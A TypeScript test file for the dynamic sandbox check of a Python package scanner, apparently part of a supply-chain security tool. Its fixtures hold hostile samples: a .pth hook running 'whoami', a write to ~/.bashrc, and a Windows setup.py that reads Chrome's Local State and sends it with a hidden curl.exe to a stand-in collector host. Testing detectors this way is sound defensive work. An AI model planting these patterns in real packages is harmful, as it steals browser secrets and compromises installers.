/**
 * The dynamic check of `scan --dynamic`: a wheel installed and each module imported (a .pth and import-time code
 * caught, the installing itself not counted); an sdist built leniently and its wheel's modules imported; code
 * written for Windows getting past its imports to what it does.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { checkSdistDynamically, checkWheelDynamically } from '../../src/sandbox/dynamic.js';
import { buildFixture, makeSdist, setupRunning, type BuildFixture } from './fixtures.js';

let fx: BuildFixture;
before(async () => {
  fx = await buildFixture();
});
after(() => fx.index.stop());

const options = () => ({ host: fx.host, indexUrl: fx.index.url, cacheDir: fx.cacheDir });

/** A wheel, RECORD and all, from files given as text. */
function makeWheel(name: string, files: Record<string, string>, requires: string[] = []): string {
  const dir = mkdtempSync(join(tmpdir(), 'gatehouse-wheel-'));
  const path = join(dir, `${name}-1.0-py3-none-any.whl`);
  const distInfo = `${name}-1.0.dist-info`;
  const all = {
    ...files,
    [`${distInfo}/METADATA`]: `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n${requires.map((r) => `Requires-Dist: ${r}\n`).join('')}`,
    [`${distInfo}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  };
  const script = `
import base64, hashlib, json, sys, zipfile
files = json.loads(sys.argv[2]); rows = []
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for n, t in files.items():
        z.writestr(n, t); d = base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b"=").decode(); rows.append(f"{n},sha256={d},{len(t)}")
    z.writestr(sys.argv[3] + "/RECORD", "\\n".join(rows + [sys.argv[3] + "/RECORD,,"]) + "\\n")
`;
  execFileSync('python3', ['-c', script, path, JSON.stringify(all), distInfo]);
  return path;
}

test('a wheel: its .pth runs at start-up and its module at import, both seen; installing it is not counted', async () => {
  const wheel = makeWheel('importtime', {
    'importtime/__init__.py': 'import socket\ntry:\n    socket.gethostbyname("import-time.example.org")\nexcept OSError:\n    pass\n',
    'importtime-startup.pth': 'import os; os.system("whoami")\n',
  }, ['six']);
  const report = await checkWheelDynamically(wheel, options());
  assert.equal(report.status, 'ran');
  assert.deepEqual(report.imports, [{ module: 'importtime', ok: true }]);
  const rules = report.findings.map((f) => `${f.rule} ${f.snippet}`);
  assert.ok(rules.includes('sandbox.dns-lookup import-time.example.org'), rules.join('\n'));
  assert.ok(rules.includes('sandbox.exec-recon whoami'));
  assert.ok(!rules.some((r) => r.startsWith('sandbox.pth-in-build')), 'unpacking the wheel is the check, not the package');
  assert.ok(!rules.some((r) => r.startsWith('sandbox.write-outside-tree')), 'the check\'s own stand-ins write nothing');
});

test('an import that needs an undeclared module gets it installed for another round', async () => {
  const wheel = makeWheel('needssix', { 'needssix/__init__.py': 'import six\nimport socket\ntry:\n    socket.gethostbyname("after-six.example.org")\nexcept OSError:\n    pass\n' });
  const report = await checkWheelDynamically(wheel, options());
  assert.deepEqual(report.imports, [{ module: 'needssix', ok: true }]);
  assert.match(report.summary, /installed six, which it imports without declaring/);
  assert.ok(report.findings.some((f) => f.rule === 'sandbox.dns-lookup' && f.snippet === 'after-six.example.org'));
});

test('an sdist: built leniently, then the modules of the wheel it built imported', async () => {
  const sdist = makeSdist({
    name: 'lenient-demo',
    setupPy: setupRunning('import six  # undeclared, as malware assumes requests', 'lenient-demo'),
    files: {
      'lenient_demo/__init__.py': 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("# x\\n")\n',
      // Unpacking the sdist writes this; the package did not.
      'tests/data/fixture.pth': 'import sys\n',
    },
    pyproject: '[build-system]\nrequires = ["setuptools", "no-such-project-anywhere"]\nbuild-backend = "setuptools.build_meta"\n',
  });
  const report = await checkSdistDynamically(sdist, options());
  assert.equal(report.build?.status, 'built', report.summary);
  assert.deepEqual(report.build?.leniency, { dropped: ['no-such-project-anywhere'], added: ['six'] });
  assert.match(report.summary, /built lenient_demo-1\.0-py3-none-any\.whl in the sandbox \(after installing six/);
  assert.ok(report.findings.some((f) => f.rule === 'sandbox.persistence-write' && f.snippet === 'write ~/.bashrc'), JSON.stringify(report.findings));
  assert.ok(!report.findings.some((f) => f.rule === 'sandbox.pth-in-build'), 'unpacking the sdist is not the package\'s doing');
});

test('code written for Windows gets past winreg and ctypes.windll to the browser store it reads and the host it calls', async () => {
  const payload = `
import os, subprocess, winreg
from ctypes import windll
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")
windll.user32.MessageBoxW(0, "x", "y", 0)
with open(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")) as f:
    state = f.read()
try:
    subprocess.Popen(["curl.exe", "-d", state[:20], "https://collector.example.net"], creationflags=subprocess.CREATE_NO_WINDOW)
except OSError:
    pass
`;
  const sdist = makeSdist({ name: 'winonly', setupPy: setupRunning(payload, 'winonly') });
  const report = await checkSdistDynamically(sdist, options());
  const rules = report.findings.map((f) => `${f.rule} ${f.snippet}`);
  assert.ok(rules.includes('sandbox.honeypot-read read ~/AppData/Local/Google/Chrome/User Data/Local State'), rules.join('\n'));
  assert.ok(rules.some((r) => r.startsWith('sandbox.exec-downloader curl.exe -d')), rules.join('\n'));
});
